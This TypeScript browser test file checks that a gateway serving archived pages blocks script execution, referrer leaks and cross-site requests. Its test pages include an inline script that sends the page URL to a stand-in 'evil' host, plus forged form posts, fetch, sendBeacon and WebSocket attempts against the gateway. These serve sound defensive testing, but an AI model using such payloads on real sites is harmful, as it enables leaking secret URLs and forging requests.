/** Pages in a real browser of the same user, which even know the URL of the gateway. */
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, expect, it, onTestFinished } from 'vitest'
import { isToken, openGateway, startArchive, withToken } from '../node/gateway/origin.ts'
import { useChromium } from './chromium.ts'

const browser = useChromium()

/** A site that remembers what it is asked for, and with which `Referer`. */
async function startSite(page = '') {
  const asked: { readonly url: string; readonly referer: string | undefined }[] = []
  const server = createServer(({ url = '', headers: { referer } }, response) => {
    asked.push({ url, referer })
    response.writeHead(200, { 'content-type': 'text/html' }).end(page)
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  onTestFinished(() => {
    server.closeAllConnections()
    server.close()
  })
  return { origin: `http://localhost:${(server.address() as AddressInfo).port}`, asked }
}

async function opened(url: string) {
  const context = await browser().newContext()
  onTestFinished(() => context.close())
  const page = await context.newPage()
  await page.goto(url, { waitUntil: 'networkidle' })
  return page
}

describe('a page of a server, opened through the gateway', () => {
  it('runs no script, and tells no other site the URL of the gateway', async () => {
    const evil = await startSite()
    const html = `<!doctype html><meta name="referrer" content="unsafe-url"><title>shown</title>
<link rel="stylesheet" href="${evil.origin}/style"><link rel="icon" href="${evil.origin}/icon">
<link rel="prefetch" referrerpolicy="unsafe-url" href="${evil.origin}/prefetch"><link rel="preload" as="image" href="${evil.origin}/preload">
<style>@import "${evil.origin}/import"; body { background: url(${evil.origin}/background) } p { color: rgb(1, 2, 3) }</style>
<meta http-equiv="refresh" content="0; url=${evil.origin}/refresh">
<p>text</p><img src="${evil.origin}/image" referrerpolicy="unsafe-url"><iframe src="${evil.origin}/frame" referrerpolicy="unsafe-url"></iframe><video src="${evil.origin}/video"></video>
<object data="${evil.origin}/object"></object><script src="${evil.origin}/script"></script>
<script>new Image().src = '${evil.origin}/inline?' + location</script>`
    const archive = await startArchive({ files: { '/p.html': html }, types: { '/p.html': 'text/html' }, accepts: isToken })
    const gateway = await openGateway(withToken(archive.origin))
    const page = await opened(gateway.urlFor(`${archive.origin}p.html`))
    expect([await page.title(), await page.locator('p').evaluate((node) => getComputedStyle(node).color)]).toEqual([
      'shown',
      'rgb(1, 2, 3)',
    ])
    expect(evil.asked.length).toBeGreaterThan(3)
    expect(evil.asked.filter(({ url, referer }) => url.includes('inline') || url.includes('refresh') || referer !== undefined)).toEqual([])
  })
})

describe('a page of another site', () => {
  it('that knows a URL of the gateway gets no byte and causes no request', async () => {
    const archive = await startArchive({ files: { '/x': 'secret' }, types: { '/x': 'text/javascript' }, accepts: isToken })
    const gateway = await openGateway(withToken(archive.origin))
    const url = gateway.urlFor(`${archive.origin}x`)
    const evil = await startSite(`<!doctype html><title>evil</title>
<img src="${url}"><script src="${url}"></script><iframe src="${url}"></iframe><link rel="stylesheet" href="${url}"><video src="${url}"></video>
<object data="${url}"></object><form method="post" enctype="text/plain" action="${url}/search" target="t"><input name='{"a":"' value='"}'></form>
<iframe name="t"></iframe>`)
    const page = await opened(`${evil.origin}/`)
    const results = await page.evaluate(async (address) => {
      document.querySelector('form')?.submit()
      const attempts = [
        () => fetch(address).then((response) => response.text()),
        () => fetch(address, { mode: 'no-cors' }).then((response) => response.text()),
        () => fetch(address, { method: 'HEAD', mode: 'no-cors' }).then((response) => response.text()),
        () => fetch(`${address}/search`, { method: 'POST', mode: 'no-cors', body: '{}' }).then((response) => response.text()),
        () =>
          fetch(`${address}/search`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }).then((response) =>
            response.text(),
          ),
        () => fetch(address, { headers: { range: 'bytes=0-' } }).then((response) => response.text()),
        async () => String(navigator.sendBeacon(`${address}/search`, '{}') && ''),
        () =>
          new Promise<string>((resolve) => {
            const socket = new WebSocket(address.replace('http', 'ws'))
            socket.onopen = () => resolve('open')
            socket.onerror = () => resolve('')
          }),
        () =>
          new Promise<string>((resolve) => {
            const source = new EventSource(address)
            source.onmessage = () => resolve('message')
            source.onerror = () => resolve('')
          }),
      ]
      return Promise.all(attempts.map((attempt) => attempt().catch(() => '')))
    }, url)
    expect(results.every((text) => text === '')).toBe(true)
    expect(archive.sent).toEqual([])
  })
})
